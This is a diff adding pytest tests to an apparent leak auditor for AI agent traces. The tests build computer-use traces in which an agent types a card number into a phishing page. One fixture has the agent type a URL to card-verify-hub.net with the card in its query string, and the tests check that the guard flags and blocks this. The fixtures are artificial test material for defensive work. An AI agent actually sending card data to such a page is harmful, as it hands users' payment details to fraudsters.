@@ -226,3 +226,55 @@ def test_buying_at_a_site_the_user_named_needs_the_card_but_no_mail_does(tmp_pat
     )
     report = audit(_file(tmp_path, typed, mailed), ["dataflow"])
     assert {f.trace_index for f in report.findings if f.at_least("medium")} == {1}
+
+
+SCREENSHOT = [{"type": "image_url", "image_url": {"url": "data:image/png;base64,iVBORw0KGgo="}}]
+
+
+def _screen(*actions, openai=False):
+    """A computer-use agent's trace: every action one ``computer`` call, each result a
+    screenshot (Anthropic's shape, or OpenAI's action object)."""
+    calls = [WALLET]
+    for action in actions:
+        if openai:
+            kind = {"key": "keypress", "left_click": "click"}.get(action["action"], "type")
+            rest = {k: v for k, v in action.items() if k != "action"}
+            calls.append(("computer_call", {"action": {"type": kind, **rest}}, SCREENSHOT))
+        else:
+            calls.append(("computer", action, SCREENSHOT))
+    return _trace("My order at https://shop.lumen-goods.com is on hold: pay it.", calls)
+
+
+def _address(url):
+    return [{"action": "key", "text": "ctrl+l"}, {"action": "type", "text": url + "\n"}]
+
+
+def test_computer_use_typing_goes_to_the_address_it_typed(tmp_path):
+    """A computer-use agent sees screenshots only: the page it types into is the address
+    it typed last. A card typed after it typed the phishing page's address is a leak to
+    that page, in Anthropic's and OpenAI's shapes, and the guard refuses it; typed after
+    the shop's address, it is no leak."""
+    card = {"action": "type", "text": CARD}
+    for openai in (False, True):
+        phished = _screen(*_address("https://shop.lumen-goods.com"), *_address(PHISH), card,
+                          openai=openai)  # fmt: skip
+        shop = _screen(*_address("https://shop.lumen-goods.com/checkout"), card, openai=openai)
+        path = _file(tmp_path, phished, shop)
+        found = _serious(path)
+        assert [f.trace_index for f in found] == [0], openai
+        assert "card-verify-hub.net" in found[0].evidence["sink"]["destination"]
+        assert [line["blocked"] for line in replay(path)] == [True, False]
+
+
+def test_computer_use_typing_before_any_address_names_no_destination(tmp_path):
+    """No page is known (the agent clicked its way there): the typing is not read as a
+    request anywhere — a miss `browsing` documents, not a guess."""
+    clicked = _screen({"action": "left_click", "coordinate": [400, 300]},
+                      {"action": "type", "text": CARD})  # fmt: skip
+    assert _serious(_file(tmp_path, clicked)) == []
+
+
+def test_a_secret_in_a_typed_address_is_a_leak(tmp_path):
+    trace = _screen(*_address(f"https://card-verify-hub.net/?c={CARD}"))
+    (found,) = _serious(_file(tmp_path, trace))
+    assert found.evidence["sink"]["sink_rule"] == "page"
